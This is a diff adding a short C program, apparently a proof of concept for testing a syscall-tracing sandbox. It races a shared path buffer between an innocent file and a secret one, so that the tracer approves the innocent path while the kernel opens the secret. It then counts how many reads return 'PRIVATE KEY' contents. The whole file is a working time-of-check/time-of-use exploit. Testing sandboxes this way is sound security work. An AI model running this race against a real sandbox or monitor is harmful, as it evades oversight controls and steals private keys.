@@ -1,0 +1,59 @@
+// Races a checked argument: one thread opens the path held in a shared buffer,
+// again and again, while another thread flips that buffer between an innocent
+// file and a secret one — hoping the tracer reads the innocent path and the
+// kernel then copies the secret. Prints how many opens returned the secret's
+// bytes ("leaked N") out of how many succeeded.
+// Usage: race_open INNOCENT SECRET ROUNDS
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+static char path[4096];
+static const char *innocent, *secret;
+static volatile int done;
+
+static void *flipper(void *arg) {
+    (void)arg;
+    size_t ni = strlen(innocent) + 1, ns = strlen(secret) + 1;
+    while (!done) {
+        // Mostly innocent, so the tracer mostly reads (and allows) the note.
+        // The barriers keep the compiler from dropping a copy nobody reads here.
+        memcpy(path, secret, ns);
+        __asm__ volatile("" ::: "memory");
+        for (volatile int i = 0; i < 200; i++) {}
+        memcpy(path, innocent, ni);
+        __asm__ volatile("" ::: "memory");
+        for (volatile int i = 0; i < 2000; i++) {}
+    }
+    return NULL;
+}
+
+int main(int argc, char **argv) {
+    if (argc != 4) return 2;
+    innocent = argv[1];
+    secret = argv[2];
+    int rounds = atoi(argv[3]);
+    strcpy(path, innocent);
+    pthread_t t;
+    pthread_create(&t, NULL, flipper, NULL);
+    int leaked = 0, opened = 0;
+    char buf[64];
+    for (int i = 0; i < rounds; i++) {
+        int fd = open(path, O_RDONLY);
+        if (fd < 0) continue;
+        opened++;
+        ssize_t n = read(fd, buf, sizeof buf - 1);
+        if (n > 0) {
+            buf[n] = 0;
+            if (strstr(buf, "PRIVATE KEY")) leaked++;
+        }
+        close(fd);
+    }
+    done = 1;
+    pthread_join(t, NULL);
+    printf("leaked %d opened %d\n", leaked, opened);
+    return 0;
+}
